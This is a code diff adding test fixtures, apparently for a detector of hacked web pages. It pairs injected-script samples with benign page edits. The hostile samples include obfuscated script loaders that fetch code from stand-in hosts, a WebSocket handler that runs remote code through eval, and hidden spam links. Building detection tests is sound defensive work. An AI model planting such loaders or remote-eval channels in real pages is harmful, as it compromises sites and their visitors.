@@ -36,6 +36,30 @@ HIDDEN_CODE = {
         + "".join(f'<a href="http://film{n}.example.org">see film</a>' for n in range(5))
         + "</marquee>",
     ),
+    "address in pieces": code(
+        "var a=document.createElement('script');a.src='ht'+'tps://st'+'at-x.cl'+'ub/j.js';"
+        "document.body.appendChild(a)"
+    ),
+    "address in codes": code(
+        "var u=decodeURIComponent('https%3A%2F%2Fpop-x.example%2Fa.js'),d=document,"
+        "s=d.createElement('script');s.src=u;d.head.append(s)"
+    ),
+    "letters one by one": code(
+        "var s=String.fromCharCode;document.write(s(60)+s(115)+s(99)+s(114)+s(105)+s(112)+s(116))"
+    ),
+    "tag in pieces": code(
+        "var m=[104,116,116,112];var o='';for(var i in m)o+=String.fromCharCode(m[i]);"
+        "document.write('<scr'+'ipt src='+o+'></scr'+'ipt>')"
+    ),
+    "code through a socket": code(
+        "new WebSocket('wss://feed-x.example/c').onmessage=function(e){eval(e.data)}"
+    ),
+    "links one pixel high": placed(
+        END,
+        "<span style='color:#fff;font-size:1px'>"
+        + "".join(f'<a href="https://loan{n}.example.org">loan</a>' for n in range(4))
+        + "</span>",
+    ),
     "accusation": placed("<h2>News", "<h2>The minister is a thief. Or we leak everything!</h2>"),
 }
 
@@ -52,6 +76,23 @@ EDITS = {
     "cookie bar": placed(
         END,
         '<div style="position:fixed;bottom:0;left:0;right:0;background:#222">We use cookies.</div>',
+    ),
+    "sharing": placed(
+        END,
+        "<a href='#' onclick=\"window.open('https://www.facebook.com/sharer/sharer.php?u='+"
+        'location.href)">Share</a>',
+    ),
+    "waiting picture of a theme": placed(
+        END, '<div id="preloader" style="position:fixed;top:0;left:0;width:100%;height:100%"></div>'
+    ),
+    "small print": placed(
+        END,
+        "<p style='font-size:0.9em'>"
+        + "".join(f'<a href="https://office{n}.example.org">Office {n}</a>' for n in range(5))
+        + "</p>",
+    ),
+    "address of a mail in pieces": code(
+        "var a='info';var b='district.example';document.write('<a href=\"mailto:'+a+'@'+b+'\">'+a)"
     ),
     "old browsers' parts": placed(
         END,
